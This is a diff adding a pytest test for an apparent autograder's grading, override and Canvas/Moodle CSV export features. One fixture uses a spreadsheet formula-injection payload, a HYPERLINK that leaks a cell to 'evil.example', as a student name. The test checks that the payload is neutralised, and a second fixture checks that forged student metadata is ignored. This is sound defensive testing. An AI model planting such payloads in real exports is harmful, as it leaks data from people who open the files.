@@ -288,3 +288,178 @@ def test_one_command_gives_the_csv_exports_and_similarity_with_identity_late_and
     assert main(["grade", str(subs / "submission_1"), "--only", "relu", "--similarity",
                  str(out / "s.txt")]) == 2
     assert "--similarity applies to a whole class" in capsys.readouterr().err
+
+
+# --- what a student hands in is data, and the staff's changes round-trip (issue #32, items 4, 9) ---
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Eve")'
+COURSE_META = f"""submission_1:
+  :submitters:
+  - :name: Ada Lovelace
+    :sid: '1001'
+    :email: ada@example.edu
+  :created_at: 2026-11-20 10:00:00.000000000 +00:00
+submission_2:
+  :submitters:
+  - :name: Grace Hopper
+    :sid: '1002'
+    :email: grace@example.edu
+  - :name: Alan Turing
+    :sid: '1003'
+    :email: alan@example.edu
+  :created_at: 2026-11-22 13:00:00.000000000 +00:00
+submission_3:
+  :submitters:
+  - :name: '{FORMULA}'
+    :sid: '1004'
+    :email: eve@example.edu
+  :created_at: 2026-11-20 11:00:00.000000000 +00:00
+submission_4:
+  :submitters:
+  - :name: Mallory M
+    :sid: '1005'
+    :email: mallory@example.edu
+  :created_at: 2028-05-21 09:00:00.000000000 +00:00
+"""
+
+
+def _csv_rows(path):
+    with open(path, newline="", encoding="utf-8") as f:
+        return list(csv.reader(f))
+
+
+def test_a_course_trusts_only_the_instructor_and_its_overrides_round_trip(tmp_path, capsys):
+    subs = tmp_path / "export"
+    buggy = CORRECT + "\n\n" + (FIXTURES / "bugs" / "softmax_no_max.py").read_text()
+    for k in range(1, 6):
+        (subs / f"submission_{k}").mkdir(parents=True)
+        (subs / f"submission_{k}" / "homework.py").write_text(buggy if k == 5 else CORRECT)
+    (subs / "submission_metadata.yml").write_text(COURSE_META)
+    # Mallory, 18 months late, writes her own metadata: on time, and Ada's SID
+    (subs / "submission_4" / "submission_metadata.json").write_text(json.dumps(
+        {"created_at": "2026-11-20T00:00:00Z",
+         "users": [{"name": "Ada Lovelace", "sid": "1001", "email": "ada@example.edu"}]}))
+    config = tmp_path / "autograder" / "grading.json"
+    config.parent.mkdir()
+    config.write_text(json.dumps({"assignment": "hw1", "seed": 0, "hidden_seed": None, "timeout": 2,
+                                  "float32_case": False,
+                                  "late": {"due": "2026-11-21T00:00:00Z", "penalty_percent": 10},
+                                  "functions": [{"name": "softmax", "weight": 6},
+                                                {"name": "relu", "weight": 4}]}))
+    overrides = tmp_path / "overrides.csv"            # two lines for Ada; one for submission_5
+    overrides.write_text("student,function,score,reason\n1001,relu_backward,1.5,TA regrade\n"
+                         "ada@example.edu,total,9,integrity\nsubmission_5,total,3,partial credit\n")
+    out = tmp_path / "out"
+    out.mkdir()
+    grades, canvas, moodle = out / "grades.csv", out / "canvas.csv", out / "moodle.csv"
+    argv = ["grade", str(subs), "--config", str(config), "--csv", str(grades), "--jobs", "2",
+            "--overrides", str(overrides), "--export", "canvas", str(canvas),
+            "--export", "moodle", str(moodle)]
+    assert main(argv) == 0
+    err = capsys.readouterr().err
+    assert "ignored the metadata file(s) inside 1 submission(s) (submission_4)" in err
+    assert "no submission time for 1 submission(s) (submission_5)" in err
+    rows = {r["student"]: r for r in csv.DictReader(open(grades, newline=""))}
+    assert rows["submission_5"]["score"] == "3.00" and rows["submission_5"]["graded_score"] != "3.00"
+    assert rows["submission_5"]["overrides"] == "total=3 (partial credit)"
+
+    # a TA edits Eve's total in the CSV: the next run refuses and writes the edit as an override
+    text = grades.read_text()
+    eve_line = next(line for line in text.splitlines() if line.startswith("submission_3,"))
+    grades.write_text(text.replace(eve_line, eve_line.replace("submission_3,10.00,", "submission_3,7.00,")))
+    assert main(argv) == 2
+    err = capsys.readouterr().err
+    assert "edited by hand" in err and "grades-edits.csv" in err and "give the reason" in err
+    edits = out / "grades-edits.csv"
+    lines = _csv_rows(edits)
+    fingerprint = lines[1][4]
+    assert lines[0] == ["student", "function", "score", "reason", "fingerprint"]
+    assert lines[1][:3] == ["submission_3", "total", "7.00"] and len(fingerprint) == 12
+    assert lines[1][3] == "edited in the grades CSV (was 10.00): give the reason"
+    # as written, it is refused until the reason is given; filled in, it applies without --force
+    with_edits = argv + ["--overrides", str(edits)]
+    assert main(with_edits) == 2
+    assert "the reason still ends in 'give the reason'" in capsys.readouterr().err
+    edits.write_text(edits.read_text().replace(": give the reason", ": re-marked question 2"))
+    # submission_5 is resubmitted, now correct: its old override must not lower it silently
+    (subs / "submission_5" / "homework.py").write_text(CORRECT)
+    assert main(with_edits) == 0
+    printed = capsys.readouterr()
+    assert "stale override, not applied" in printed.err and "submission_5" in printed.err
+
+    table = _csv_rows(grades)
+    head = table[0]
+    assert head == ["student", "score", "max_score", "name", "sid", "email", "graded_score",
+                    "late_penalty_percent", "late", "submitted_at", "submitted_from", "overrides",
+                    "softmax_forward", "softmax_backward", "relu_forward", "relu_backward",
+                    "status", "isolation", "seconds", "submission", "message"]
+    cells = [dict(zip(head, r)) for r in table[1:]]
+    shown = [[c[k] for k in head[:16] + ["status"]] for c in cells]
+    yml = "created_at in submission_metadata.yml"
+    assert shown[:5] == [
+        ["submission_1", "9.00", "10.00", "Ada Lovelace", "1001", "ada@example.edu", "10.00", "0.0",
+         "on time", "2026-11-20T10:00:00+00:00", yml,
+         "relu_backward=1.5 (TA regrade); total=9 (integrity)", "2.40", "3.60", "1.60", "1.50",
+         "graded"],
+        ["submission_2", "8.00", "10.00", "Grace Hopper", "1002", "grace@example.edu", "10.00", "20.0",
+         "1.54 days late (2 started days at 10% each, at most 100%): -20%",
+         "2026-11-22T13:00:00+00:00", yml, "", "2.40", "3.60", "1.60", "2.40", "graded"],
+        ["submission_2", "8.00", "10.00", "Alan Turing", "1003", "alan@example.edu", "10.00", "20.0",
+         "1.54 days late (2 started days at 10% each, at most 100%): -20%",
+         "2026-11-22T13:00:00+00:00", yml, "", "2.40", "3.60", "1.60", "2.40", "graded"],
+        ["submission_3", "7.00", "10.00", "'" + FORMULA, "1004", "eve@example.edu", "10.00", "0.0",
+         "on time", "2026-11-20T11:00:00+00:00", yml,
+         "total=7 (edited in the grades CSV (was 10.00): re-marked question 2)", "2.40", "3.60",
+         "1.60", "2.40", "graded"],
+        ["submission_4", "0.00", "10.00", "Mallory M", "1005", "mallory@example.edu", "10.00", "100.0",
+         "547.38 days late (548 started days at 10% each, at most 100%): -100%",
+         "2028-05-21T09:00:00+00:00", yml, "", "2.40", "3.60", "1.60", "2.40", "graded"],
+    ]
+    stale = cells[5]["overrides"]
+    assert stale.startswith("STALE, not applied: total=3 (partial credit): written for submission ")
+    old_fp, new_fp = stale.split("written for submission ")[1].split(", now ")
+    assert len(old_fp) == len(new_fp) == 12 and old_fp != new_fp
+    assert shown[5][:11] + shown[5][12:] == ["submission_5", "10.00", "10.00", "", "", "", "10.00", "", "no submission time",
+                             "", "no submission time", "2.40", "3.60", "1.60", "2.40", "graded"]
+    # no cell of the CSV starts a formula
+    assert not [c for r in table for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "1002; 1003" not in grades.read_text()
+
+    assert _csv_rows(canvas) == [
+        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "hw1"],
+        ["Points Possible", "", "", "", "", "10.00"],
+        ["'" + FORMULA, "", "1004", "eve@example.edu", "", "7.00"],
+        ["Lovelace, Ada", "", "1001", "ada@example.edu", "", "9.00"],
+        ["Turing, Alan", "", "1003", "alan@example.edu", "", "8.00"],
+        ["Hopper, Grace", "", "1002", "grace@example.edu", "", "8.00"],
+        ["M, Mallory", "", "1005", "mallory@example.edu", "", "0.00"]]
+    late2 = "late: 1.54 days late (2 started days at 10% each, at most 100%): -20%"
+    assert _csv_rows(moodle) == [
+        ["First name", "Last name", "ID number", "Email address", "hw1", "Feedback"],
+        ["'" + FORMULA, "", "1004", "eve@example.edu", "7.00",
+         "override: total 10 -> 7 (edited in the grades CSV (was 10.00): re-marked question 2)"],
+        ["Ada", "Lovelace", "1001", "ada@example.edu", "9.00",
+         "override: relu_backward 2.4 -> 1.5 (TA regrade) override: total 9.1 -> 9 (integrity)"],
+        ["Alan", "Turing", "1003", "alan@example.edu", "8.00", late2],
+        ["Grace", "Hopper", "1002", "grace@example.edu", "8.00", late2],
+        ["Mallory", "M", "1005", "mallory@example.edu", "0.00",
+         "late: 547.38 days late (548 started days at 10% each, at most 100%): -100%"]]
+    assert "left out: submission_5 (no name, SID or email" in printed.out
+    assert "canvas export: " + str(canvas) + " (5 students)" in printed.out
+
+    results = out / "grades_results"
+    mallory = (results / "submission_4" / "report.txt").read_text()
+    assert "submission_metadata.json in your submission was ignored" in mallory
+    assert "-100%" in mallory
+    assert "due 2026-11-21T00:00+00:00: no submission time: the late policy was not applied" in \
+        (results / "submission_5" / "report.txt").read_text()
+    # the stale override applies again once its fingerprint is set to the new submission's
+    overrides.write_text(overrides.read_text().replace(
+        "student,function,score,reason\n", "student,function,score,reason,fingerprint\n").replace(
+        "partial credit\n", f"partial credit,{new_fp}\n").replace("integrity\n", "integrity,\n")
+        .replace("TA regrade\n", "TA regrade,\n"))
+    assert main(with_edits) == 0
+    capsys.readouterr()
+    rows = {r["student"]: r for r in csv.DictReader(open(grades, newline=""))}
+    assert rows["submission_5"]["score"] == "3.00" and rows["submission_5"]["overrides"] == \
+        "total=3 (partial credit)"
